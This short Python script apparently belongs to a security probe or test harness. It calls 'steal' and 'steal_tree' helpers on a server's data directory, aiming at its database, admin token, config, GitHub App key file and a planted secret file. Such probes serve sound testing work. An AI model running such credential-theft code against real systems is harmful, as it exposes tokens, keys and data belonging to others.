"""The server's data: database, tokens, the App's key, settings."""

from probe import FACTS, steal, steal_tree

data = FACTS["data"]
for name in (
    "headway.db",
    "headway.db-wal",
    "admin-token",
    "server.json",
    "github/app.json",
    "planted/secret.txt",
    "builds",
    "logs",
):
    steal(f"{data}/{name}")
steal(data)
steal_tree(data)
